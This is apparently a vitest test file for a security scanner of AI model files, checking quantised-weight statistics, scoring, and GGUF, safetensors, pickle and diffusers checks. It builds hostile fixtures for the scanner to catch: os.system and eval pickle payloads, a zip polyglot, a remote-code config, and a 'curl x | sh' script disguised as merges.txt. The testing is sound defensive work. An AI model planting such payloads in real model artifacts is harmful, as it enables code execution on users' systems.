import { chmod, mkdtemp, readFile, rm, unlink, writeFile } from 'node:fs/promises';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import {
  DEFAULT_STATIC_SCAN_THRESHOLDS,
  behaviorVerdict,
  componentKind,
  dequantizeBlocks,
  diffusionDeepScan,
  diffusionVerdict,
  ggufWeightReport,
  parseBehaviorParams,
  parseStaticScanThresholds,
  quantBlockFindings,
  quantBlockStatistics,
  safetensorsWeightReport,
  scanFileForPickles,
  scoreGuardFindings,
  tensorFindings,
  weightStatistics,
  type QuantBlockStats,
  type SupportedWeightType,
  type WeightFinding,
  type WeightStats,
} from '../src/scan/index.js';
import { inspectSafetensors } from '@secai/formats';
import { fixtureFiles, gaussian, saneSafetensors } from './weightFixtures.js';
import {
  PICKLES,
  buildSafetensors,
  concatBytes,
  safetensorsZipPolyglot,
  seededBytes,
  writeDiffusersDir,
  type DiffusersVariant,
} from '@secai/formats/testing';
import {
  GGUF_WEIGHT_ATTACKS,
  QUANT_BLOCKS,
  buildTinyLlamaGguf,
  quantizeRow,
  toHalf,
  type GgufWeightAttack,
  type QuantType,
} from '@secai/formats/testing';

let dir: string;
beforeAll(async () => {
  dir = await mkdtemp(join(tmpdir(), 'secai-static-'));
});
afterAll(async () => {
  await rm(dir, { recursive: true, force: true });
});

const { put, tiny } = fixtureFiles(() => dir);

// --- quantised blocks ---------------------------------------------------------------------------

describe('quantised blocks dequantise as ggml does (hand-computed)', () => {
  it('Q8_0: x = d·q with an f16 d and int8 codes', () => {
    const b = Buffer.alloc(34);
    b.writeUInt16LE(0x3800, 0); // d = 0.5
    [1, -2, 127, -128].forEach((q, i) => b.writeInt8(q, 2 + i));
    const x = dequantizeBlocks('Q8_0', b);
    expect([...x.subarray(0, 5)]).toEqual([0.5, -1, 63.5, -64, 0]);
    expect(x).toHaveLength(32);
  });

  it('Q4_0: low nibbles are elements 0..15, high nibbles 16..31, x = d·(q − 8)', () => {
    const b = Buffer.alloc(18, 0x88);
    b.writeUInt16LE(0x3400, 0); // d = 0.25
    b[2] = 0x9f;
    b[3] = 0x08;
    const x = dequantizeBlocks('Q4_0', b);
    expect(x[0]).toBe(1.75); // 0.25·(15 − 8)
    expect(x[16]).toBe(0.25); // 0.25·(9 − 8)
    expect(x[1]).toBe(0);
    expect(x[17]).toBe(-2); // 0.25·(0 − 8)
    expect(x[5]).toBe(0);
  });

  it('Q4_K: packed 6-bit scales and mins, x = d·sc·q − dmin·m', () => {
    const b = Buffer.alloc(144);
    b.writeUInt16LE(0x3800, 0); // d = 0.5
    b.writeUInt16LE(0x3400, 2); // dmin = 0.25
    // sub-block 0: sc 2, m 4; sub-block 1: sc 3, m 1; sub-block 5: sc 37, m 19 (split over
    // scales[9] low/high nibble and the top two bits of scales[1] and scales[5]).
    Buffer.from([2, 0x83, 0, 0, 4, 0x41, 0, 0, 0, 0x35, 0, 0]).copy(b, 4);
    b[16] = 0x7a; // element 0: q 10 (sub-block 0); element 32: q 7 (sub-block 1)
    b[16 + 64] = 0xf0; // element 128: q 0 (sub-block 4); element 160: q 15 (sub-block 5)
    const x = dequantizeBlocks('Q4_K', b);
    expect(x[0]).toBe(9); // 0.5·2·10 − 0.25·4
    expect(x[1]).toBe(-1); // 0.5·2·0 − 0.25·4
    expect(x[32]).toBe(10.25); // 0.5·3·7 − 0.25·1
    expect(x[33]).toBe(-0.25);
    expect(x[64]).toBe(0); // sub-block 2: scale and min 0
    expect(x[128]).toBe(0);
    expect(x[160]).toBe(272.75); // 0.5·37·15 − 0.25·19
    expect(x[161]).toBe(-4.75);
  });

  it('Q6_K: ql low/high nibbles, qh bit pairs, int8 scale per 16, x = d·sc·(q − 32)', () => {
    const b = Buffer.alloc(210);
    b.writeUInt16LE(0x3800, 208); // d = 0.5
    b.writeInt8(2, 192); // scale of elements 0..15
    b.writeInt8(-3, 192 + 2); // 32..47
    b.writeInt8(4, 192 + 9); // 144..159
    b[0] = 0x35; // element 0: low 5; element 64: low 3
    b[32] = 0x0c; // element 32: low 12
    b[128] = 0x06; // element 0: high 2; element 32: high 1; elements 64, 96: high 0
    b[64 + 16] = 0x0f; // element 144: low 15
    b[128 + 32 + 16] = 0x03; // element 144: high 3
    const x = dequantizeBlocks('Q6_K', b);
    expect(x[0]).toBe(5); // 0.5·2·(37 − 32)
    expect(x[1]).toBe(-32); // 0.5·2·(0 − 32)
    expect(x[32]).toBe(6); // 0.5·(−3)·(28 − 32)
    expect(x[33]).toBe(48);
    expect(x[64]).toBe(-0); // scale 0
    expect(x[144]).toBe(62); // 0.5·4·(63 − 32)
    expect(x[145]).toBe(-64);
  });

  for (const [type, maxRelRms] of [
    ['Q8_0', 0.01],
    ['Q4_0', 0.15],
    ['Q4_K', 0.15],
    ['Q6_K', 0.05],
  ] as [QuantType & SupportedWeightType, number][]) {
    it(`${type}: the writer's quantiser round-trips Gaussian weights`, () => {
      const v = gaussian(2048, 0.02, 5);
      const q = quantizeRow(type, v);
      expect(q.length).toBe((2048 / QUANT_BLOCKS[type].blockSize) * QUANT_BLOCKS[type].typeSize);
      const x = dequantizeBlocks(type, q, 2048 / QUANT_BLOCKS[type].blockSize);
      let err = 0;
      let energy = 0;
      for (let i = 0; i < v.length; i++) {
        err += ((x[i] ?? 0) - (v[i] ?? 0)) ** 2;
        energy += (v[i] ?? 0) ** 2;
      }
      expect(Math.sqrt(err / energy)).toBeLessThan(maxRelRms);
    });
  }

  it('llama.cpp reads the quantised tiny models as the same network (embedding cosine vs F32)', async () => {
    // A wrong block layout would still load but compute garbage: compare the final hidden state
    // of each quantised model with the F32 model of the same seed (another seed: |cos| ≈ 0).
    const { getLlama } = await import('node-llama-cpp');
    const llama = await getLlama({ gpu: false, build: 'never', logLevel: 'error' as never });
    const embed = async (path: string): Promise<number[]> => {
      const model = await llama.loadModel({ modelPath: path, gpuLayers: 0 });
      const ctx = await model.createEmbeddingContext({ threads: 1, contextSize: 64 });
      const e = await ctx.getEmbeddingFor('hello world, this is a test');
      const v = [...e.vector];
      await ctx.dispose();
      await model.dispose();
      return v;
    };
    const cos = (a: number[], b: number[]): number => {
      let d = 0;
      let na = 0;
      let nb = 0;
      a.forEach((x, i) => {
        d += x * (b[i] ?? 0);
        na += x * x;
        nb += (b[i] ?? 0) ** 2;
      });
      return d / Math.sqrt(na * nb);
    };
    try {
      for (const [sizes, types] of [
        [{}, ['q8_0', 'q4_0']],
        [{ nEmbd: 256, nFf: 512 }, ['q4_k', 'q6_k']],
      ] as const) {
        const ref = await embed((await tiny('ref.gguf', { seed: 5, ...sizes })).path);
        for (const weightType of types) {
          const q = await tiny(`${weightType}.gguf`, { seed: 5, weightType });
          expect(cos(ref, await embed(q.path)), weightType).toBeGreaterThan(0.95);
        }
        const other = await tiny('other.gguf', { seed: 6, ...sizes });
        expect(Math.abs(cos(ref, await embed(other.path)))).toBeLessThan(0.5);
      }
    } finally {
      await llama.dispose();
    }
  }, 120_000);
});

// --- findings and scoring -----------------------------------------------------------------------

const cleanStats: WeightStats = {
  count: 1000,
  sampled: 1000,
  totalElements: 1000,
  mean: 0,
  variance: 4e-4,
  kurtosis: 0,
  zeroFraction: 0,
  nanCount: 0,
  infCount: 0,
  min: -0.06,
  max: 0.06,
  outliers: 3,
  outlierFraction: 0.003,
};

const cleanBlocks: QuantBlockStats = {
  type: 'Q8_0',
  totalBlocks: 100,
  blocks: 100,
  nonFiniteScales: 0,
  hugeScales: 0,
  zeroScales: 0,
  degenerateBlocks: 0,
  repeatedBlocks: 0,
  scaleMin: 1e-4,
  scaleMax: 1e-3,
  maxAbsScale: 1e-3,
  scaleEntropy: 4.5,
  scaleRatio: 10,
  codeEntropy: 6,
  saturationLow: 0.03,
  saturationHigh: 0.03,
};

const codes = (f: readonly WeightFinding[]): string[] => f.map((x) => `${x.code}/${x.severity}`);

describe('gguf-guard findings', () => {
  it('tensor-local: one finding per anomaly, with gguf-guard severities', () => {
    expect(tensorFindings('t', cleanStats)).toEqual([]);
    const cases: [Partial<WeightStats>, string][] = [
      [{ nanCount: 2 }, 'nan_values/critical'],
      [{ infCount: 1 }, 'inf_values/critical'],
      [{ kurtosis: 150 }, 'extreme_kurtosis/critical'],
      [{ mean: -11 }, 'large_mean/warning'],
      [{ variance: 1e-13 }, 'constant_tensor/warning'],
      [{ zeroFraction: 0.995, variance: 1e-13 }, 'mostly_zero/warning'],
      [{ outlierFraction: 0.105, outliers: 105 }, 'high_outlier_ratio/warning'],
      [{ count: 10 }, 'too_few_samples/info'],
    ];
    for (const [change, expected] of cases)
      expect(codes(tensorFindings('t', { ...cleanStats, ...change })), expected).toEqual([
        expected,
      ]);
  });

  it('counts the values beyond 3σ in a second pass (a two-point distribution has 11 %)', async () => {
    // 890 zeros and 110 values of ±1: σ = √0.11 ≈ 0.332, 3σ ≈ 0.995, so 11 % lie beyond 3σ.
    const b = Buffer.alloc(4000);
    for (let i = 0; i < 110; i++) b.writeFloatLE(i % 2 === 0 ? 1 : -1, i * 36);
    const p = await put('two-point.f32', b);
    const s = await weightStatistics(
      p,
      { name: 'x', type: 'F32', elements: 1000, offset: 0 },
      { dataOffset: 0 },
    );
    expect(s.outliers).toBe(110);
    expect(s.outlierFraction).toBeCloseTo(0.11, 6);
    expect(codes(tensorFindings('x', s))).toContain('high_outlier_ratio/warning');
    // A normal distribution: ≈ 0.27 % beyond 3σ.
    const g = Buffer.alloc(40_000);
    gaussian(10_000, 1, 3).forEach((x, i) => g.writeFloatLE(x, i * 4));
    const n = await weightStatistics(
      await put('normal.f32', g),
      { name: 'g', type: 'F32', elements: 10_000, offset: 0 },
      { dataOffset: 0 },
    );
    expect(n.outlierFraction).toBeGreaterThan(0.001);
    expect(n.outlierFraction).toBeLessThan(0.006);
  });

  it('quantisation blocks: one finding per anomaly', () => {
    expect(quantBlockFindings('q', cleanBlocks)).toEqual([]);
    const cases: [Partial<QuantBlockStats>, string][] = [
      [{ nonFiniteScales: 1 }, 'quant_scale_nonfinite/critical'],
      [{ hugeScales: 1, maxAbsScale: 3e4 }, 'quant_scale_huge/critical'],
      [{ scaleEntropy: 0.5 }, 'quant_low_scale_entropy/warning'],
      [{ scaleRatio: 2e6 }, 'quant_scale_ratio/warning'],
      [{ codeEntropy: 1.5 }, 'quant_low_code_entropy/warning'],
      [{ saturationLow: 0.6 }, 'quant_saturation_low/warning'],
      [{ saturationHigh: 0.6 }, 'quant_saturation_high/warning'],
      [{ repeatedBlocks: 11 }, 'quant_repeated_blocks/critical'],
      [{ zeroScales: 51 }, 'quant_zero_scales/warning'],
      [{ degenerateBlocks: 51 }, 'quant_degenerate_blocks/warning'],
    ];
    for (const [change, expected] of cases)
      expect(codes(quantBlockFindings('q', { ...cleanBlocks, ...change })), expected).toEqual([
        expected,
      ]);
    // The entropy checks need more than 10 blocks (gguf-guard).
    expect(
      quantBlockFindings('q', { ...cleanBlocks, blocks: 10, scaleEntropy: 0, codeEntropy: 0 }),
    ).toEqual([]);
  });

  it('block statistics from raw blocks: repeats, zero and huge scales, degenerate blocks', async () => {
    // 20 Q8_0 blocks: 0..9 distinct, 10..14 copies of block 9, 15 zeroed, 16 with d = 30000,
    // 17 with a NaN d, 18..19 distinct.
    const v = gaussian(20 * 32, 0.02, 9);
    const q = quantizeRow('Q8_0', v);
    for (let k = 10; k < 15; k++) q.copy(q, k * 34, 9 * 34, 10 * 34);
    q.fill(0, 15 * 34, 16 * 34);
    q.writeUInt16LE(toHalf(30000), 16 * 34);
    q.writeUInt16LE(0x7e00, 17 * 34);
    const p = await put('blocks.q8', q);
    const s = await quantBlockStatistics(
      p,
      { name: 'b', type: 'Q8_0', elements: 640, offset: 0 },
      { dataOffset: 0 },
    );
    expect(s).toMatchObject({
      blocks: 20,
      totalBlocks: 20,
      repeatedBlocks: 5,
      zeroScales: 1,
      hugeScales: 1,
      nonFiniteScales: 1,
      degenerateBlocks: 1,
      maxAbsScale: 30000,
    });
    expect(codes(quantBlockFindings('b', s))).toEqual([
      'quant_scale_nonfinite/critical',
      'quant_scale_huge/critical',
      'quant_low_scale_entropy/warning', // one giant scale squeezes the others into one bin
      'quant_scale_ratio/warning',
      'quant_repeated_blocks/critical',
    ]);
  });

  it('scores as gguf-guard: critical 0.30, warning 0.10, info 0.02; FAIL on critical or > 0.5', () => {
    const f = (severity: WeightFinding['severity'], tensor = 't', code = 'large_mean') =>
      ({ tensor, code, severity, detail: '', layer: 'tensor' }) as WeightFinding;
    expect(scoreGuardFindings([])).toEqual({ score: 0, verdict: 'PASS' });
    expect(scoreGuardFindings([f('info')])).toEqual({ score: 0.02, verdict: 'PASS' });
    expect(scoreGuardFindings([f('warning'), f('warning', 'u')]).verdict).toBe('PASS');
    const three = scoreGuardFindings([f('warning'), f('warning', 'u'), f('warning', 'v')]);
    expect(three.score).toBeCloseTo(0.3, 10);
    expect(three.verdict).toBe('WARN');
    expect(scoreGuardFindings([f('critical')])).toMatchObject({ verdict: 'FAIL' });
    expect(scoreGuardFindings([f('critical')]).score).toBeCloseTo(0.3, 10);
    const six = scoreGuardFindings(['a', 'b', 'c', 'd', 'e', 'g'].map((t) => f('warning', t)));
    expect(six.score).toBeCloseTo(0.6, 10);
    expect(six.verdict).toBe('FAIL');
    expect(scoreGuardFindings(Array.from({ length: 20 }, () => f('critical'))).score).toBe(1);
    // Coverage gaps are reported, not scored.
    expect(scoreGuardFindings([f('info', 't', 'unsupported_type')])).toEqual({
      score: 0,
      verdict: 'PASS',
    });
  });
});

// --- tiny models, clean and malicious -----------------------------------------------------------

const QUANT_TYPES = ['q8_0', 'q4_0', 'q4_k', 'q6_k'] as const;

/** Findings each attack must produce in the attacked tensor, whatever the quantisation. */
const ATTACK_FINDINGS: Record<GgufWeightAttack, string[]> = {
  nan_scale: ['quant_scale_nonfinite', 'nan_values'],
  zeroed_blocks: ['quant_repeated_blocks', 'quant_zero_scales', 'quant_degenerate_blocks'],
  giant_scale: ['quant_scale_huge', 'extreme_kurtosis'],
  constant_weights: ['quant_repeated_blocks', 'constant_tensor', 'quant_low_code_entropy'],
};

describe('weight reports of tiny models', () => {
  for (const weightType of ['f32', 'f16', ...QUANT_TYPES] as const) {
    it(`a clean ${weightType} model has no findings`, async () => {
      const { path, report } = await tiny(`clean-${weightType}.gguf`, { weightType });
      const r = await ggufWeightReport(path, report);
      expect(r.findings).toEqual([]);
      expect(r.verdict).toBe('PASS');
      expect(r.tensorsAnalyzed).toBe(report.tensors.length);
      const quantised = r.tensors.filter((t) => t.blocks !== undefined);
      expect(quantised.length).toBe(weightType.startsWith('q') ? report.tensors.length - 5 : 0);
    });
  }

  for (const weightType of QUANT_TYPES) {
    for (const attack of GGUF_WEIGHT_ATTACKS) {
      it(`flags ${attack} in ${weightType}`, async () => {
        const { path, report } = await tiny(`${attack}-${weightType}.gguf`, {
          weightType,
          weightAttack: attack,
        });
        const r = await ggufWeightReport(path, report);
        const hit = r.findings.filter((f) => f.tensor === 'blk.0.attn_q.weight').map((f) => f.code);
        expect(hit).toEqual(expect.arrayContaining(ATTACK_FINDINGS[attack]));
        expect(r.findings.every((f) => f.tensor === 'blk.0.attn_q.weight')).toBe(true);
        expect(r.verdict).toBe('FAIL');
      });
    }
  }

  it('refuses attacks on float weights and K-quants on rows that are not multiples of 256', () => {
    expect(() => buildTinyLlamaGguf({ weightAttack: 'nan_scale' })).toThrow(/quantised/);
    expect(() => buildTinyLlamaGguf({ weightType: 'q4_k', nEmbd: 64 })).toThrow(/256/);
  });

  it('analyses every float tensor of a safetensors file, skipping integer tensors', async () => {
    const p = await put('sane.safetensors', saneSafetensors());
    const st = await inspectSafetensors(p);
    if (!st.ok) throw new Error(st.detail);
    const r = await safetensorsWeightReport(p, st);
    expect(r.findings).toEqual([]);
    expect(r.tensorsAnalyzed).toBe(3);
    expect(r.tensorsSkipped).toBe(1);
    const nan = await put(
      'nan.safetensors',
      saneSafetensors((data, at) =>
        data.writeFloatLE(Number.NaN, (at.get('model.layers.0.w') ?? 0) + 8),
      ),
    );
    const nanInspection = await inspectSafetensors(nan);
    if (!nanInspection.ok) throw new Error(nanInspection.detail);
    const bad = await safetensorsWeightReport(nan, nanInspection);
    expect(bad.verdict).toBe('FAIL');
    expect(bad.findings).toContainEqual(
      expect.objectContaining({ tensor: 'model.layers.0.w', code: 'nan_values' }),
    );
  });
});

describe('scanFileForPickles', () => {
  it('keeps looking past many inert streams and stops at its budget', async () => {
    // 300 inert PROTO 2, NONE, STOP streams, then os.system.
    const inert = concatBytes([0x80, 2], 'N', '.');
    const many = concatBytes(
      ...Array.from({ length: 300 }, () => inert),
      PICKLES.osSystemStackGlobal,
    );
    const p = await put('many.bin', many);
    const r = await scanFileForPickles(p);
    expect(r.streams).toBe(301);
    expect(r.verdict).toBe('malicious');
    const capped = await scanFileForPickles(p, { maxStreams: 100 });
    expect(capped.verdict).toBe('incomplete');
    // Random bytes: chance streams are inert.
    const rnd = await scanFileForPickles(await put('rnd.bin', seededBytes(8 << 20, 2)));
    expect(['none', 'clean']).toContain(rnd.verdict);
  });

  it('finds a stream across a chunk boundary exactly once', async () => {
    const data = Buffer.alloc(64 * 1024);
    Buffer.from(PICKLES.builtinsEvalReduce).copy(data, 30_000);
    const p = await put('straddle.bin', data);
    // The chunk ends 5 bytes into the stream: the overlap holds the rest.
    const a = await scanFileForPickles(p, { chunkBytes: 30_005, overlapBytes: 4096 });
    // The stream starts in the overlap of the first chunk: only the second chunk reports it.
    const b = await scanFileForPickles(p, { chunkBytes: 29_995, overlapBytes: 4096 });
    for (const r of [a, b]) {
      expect(r.verdict).toBe('malicious');
      expect(r.streams).toBe(1);
      expect(r.findings.map((f) => f.offset)).toEqual([30_000]);
    }
  });

  it('reports pickle members of embedded zip archives', async () => {
    const r = await scanFileForPickles(await put('poly.safetensors', safetensorsZipPolyglot()));
    expect(r.verdict).toBe('malicious');
    expect(r.findings.map((f) => f.kind)).toContain('zip-entry');
  });
});

// --- thresholds and params ----------------------------------------------------------------------

describe('thresholds and params', () => {
  it('parses the static scan thresholds strictly', () => {
    expect(parseStaticScanThresholds(undefined)).toEqual({
      ok: true,
      thresholds: { ...DEFAULT_STATIC_SCAN_THRESHOLDS },
    });
    expect(DEFAULT_STATIC_SCAN_THRESHOLDS).toMatchObject({
      entropyMaxBitsPerByte: 7.99,
      weightMaxAbsMean: 10,
      weightMinVariance: 1e-12,
      weightMaxKurtosis: 100,
      weightMaxZeroFraction: 0.99,
      weightMaxOutlierFraction: 0.1,
      guardCriticalWeight: 0.3,
      guardWarningWeight: 0.1,
      guardInfoWeight: 0.02,
      guardFailScore: 0.5,
      guardWarnScore: 0.2,
      maxElementsPerTensor: 1_000_000,
      yaraTimeoutMs: 120_000,
    });
    const ok = parseStaticScanThresholds({ entropySamples: 3, weightMaxKurtosis: 50 });
    expect(ok.ok && ok.thresholds).toMatchObject({ entropySamples: 3, weightMaxKurtosis: 50 });
    for (const bad of [
      { entopySamples: 3 },
      { entropySamples: 2.5 },
      { entropySamples: 0 },
      { weightMaxKurtosis: -1 },
      { weightMaxKurtosis: '100' },
      { guardFailScore: 1.5 },
      { weightAnomalyFails: 2 },
      [1, 2],
      'x',
    ])
      expect(parseStaticScanThresholds(bad).ok, JSON.stringify(bad)).toBe(false);
  });

  it('parses the behavioural params and judges the score against them', () => {
    expect(parseBehaviorParams(undefined)).toEqual({
      ok: true,
      params: { threads: 1, maxScore: 0.3, maxCritical: 0, maxTokensPerAnswer: 128 },
    });
    const p = parseBehaviorParams({ threads: 2, maxScore: 0.2, other: 'ignored' });
    expect(p.ok && p.params).toMatchObject({ threads: 2, maxScore: 0.2 });
    for (const bad of [{ threads: 0 }, { threads: 1.5 }, { maxScore: 2 }, { maxCritical: -1 }, 'x'])
      expect(parseBehaviorParams(bad).ok, JSON.stringify(bad)).toBe(false);
    const limits = { maxScore: 0.3, maxCritical: 0 };
    const score = (s: number, flagged: number, critical: number) => ({
      score: s,
      flagged,
      critical,
      totalPrompts: 44,
    });
    expect(behaviorVerdict(score(0, 0, 0), limits)).toMatchObject({
      passed: true,
      reasonCode: 'behavior_ok',
      facts: { score: 0, flagged: 0, critical: 0, total_prompts: 44 },
    });
    expect(behaviorVerdict(score(0.295, 13, 0), limits).reasonCode).toBe('behavior_ok');
    expect(behaviorVerdict(score(0.318, 14, 0), limits).reasonCode).toBe('behavior_flagged');
    expect(behaviorVerdict(score(0.023, 1, 1), limits).reasonCode).toBe('behavior_critical');
    expect(behaviorVerdict(score(0.023, 1, 1), { maxScore: 0.3, maxCritical: 1 }).passed).toBe(
      true,
    );
  });
});

// --- diffusion deep scan ------------------------------------------------------------------------

describe('diffusion deep scan', () => {
  async function variant(name: DiffusersVariant, edit?: (root: string) => Promise<void>) {
    const root = join(dir, `diff-${name}-${Math.random().toString(36).slice(2, 8)}`);
    await writeDiffusersDir(root, name);
    await edit?.(root);
    return diffusionVerdict(await diffusionDeepScan(root));
  }

  it('passes the valid pipeline', async () => {
    expect(await variant('valid')).toMatchObject({
      passed: true,
      reasonCode: 'diffusion_ok',
      facts: {
        class_name: 'StableDiffusionPipeline',
        components: 5,
        files: 11,
        safetensors: 3,
        issues: 0,
      },
    });
  });

  const gate: [DiffusersVariant, string][] = [
    ['pickleBin', 'pickle_format'],
    ['symlink', 'symlink'],
    ['hardlink', 'hard_link'],
    ['missingComponent', 'component_missing'],
    ['badJson', 'json_invalid'],
    ['urlInConfig', 'suspicious_content'],
    ['hiddenFile', 'hidden_path'],
    ['customPipeline', 'index_invalid'],
    ['unexpectedDirectory', 'unexpected_directory'],
    ['badSafetensors', 'safetensors_invalid'],
    ['noIndex', 'model_index_missing'],
  ];
  for (const [name, code] of gate) {
    it(`fails the ${name} fixture (${code})`, async () => {
      const v = await variant(name);
      expect(v.passed).toBe(false);
      expect(v.reasonCode).toBe(code);
      expect(v.facts.issues).toBeGreaterThan(0);
    });
  }

  const deep: [string, (root: string) => Promise<void>, string][] = [
    [
      'remote code in a config',
      (root) =>
        writeFile(
          join(root, 'text_encoder/config.json'),
          JSON.stringify({
            architectures: ['CLIPTextModel'],
            auto_map: { AutoModel: 'modeling_evil.EvilModel' },
          }),
        ),
      'remote_code',
    ],
    [
      'a component config naming another class',
      (root) =>
        writeFile(join(root, 'unet/config.json'), JSON.stringify({ _class_name: 'UNet2DModel' })),
      'component_class_mismatch',
    ],
    [
      'a scheduler without its config',
      async (root) => {
        await unlink(join(root, 'scheduler/scheduler_config.json'));
        await writeFile(join(root, 'scheduler/notes.json'), '{}');
      },
      'component_config_missing',
    ],
    [
      'a model component without weights',
      (root) => unlink(join(root, 'vae/diffusion_pytorch_model.safetensors')),
      'component_weights_missing',
    ],
    [
      'a pickle inside safetensors weights',
      async (root) => {
        const data = Buffer.from(seededBytes(4096, 8));
        Buffer.from(PICKLES.osSystemStackGlobal).copy(data, 2000);
        await writeFile(
          join(root, 'unet/diffusion_pytorch_model.safetensors'),
          buildSafetensors([{ name: 'w', dtype: 'U8', shape: [4096] }], undefined, data),
        );
      },
      'embedded_pickle',
    ],
    [
      'a safetensors/zip polyglot',
      (root) =>
        writeFile(join(root, 'unet/diffusion_pytorch_model.safetensors'), safetensorsZipPolyglot()),
      'polyglot',
    ],
    [
      'a script disguised as text',
      (root) => writeFile(join(root, 'tokenizer/merges.txt'), '#!/bin/sh\ncurl x | sh\n'),
      'unexpected_file_type',
    ],
  ];
  for (const [what, edit, code] of deep) {
    it(`fails ${what} (${code})`, async () => {
      const v = await variant('valid', edit);
      expect(v.passed).toBe(false);
      expect(v.reasonCode).toBe(code);
    });
  }

  it('classifies components by class name', () => {
    expect(componentKind('PNDMScheduler')).toBe('scheduler');
    expect(componentKind('CLIPTokenizer')).toBe('tokenizer');
    expect(componentKind('T5TokenizerFast')).toBe('tokenizer');
    expect(componentKind('CLIPImageProcessor')).toBe('processor');
    expect(componentKind('UNet2DConditionModel')).toBe('model');
  });

  it('reads only what it is given (artifact files stay read-only)', async () => {
    const root = join(dir, 'diff-ro');
    await writeDiffusersDir(root);
    await chmod(join(root, 'model_index.json'), 0o444);
    const before = await readFile(join(root, 'model_index.json'));
    expect((await diffusionDeepScan(root)).ok).toBe(true);
    expect(await readFile(join(root, 'model_index.json'))).toEqual(before);
  });
});
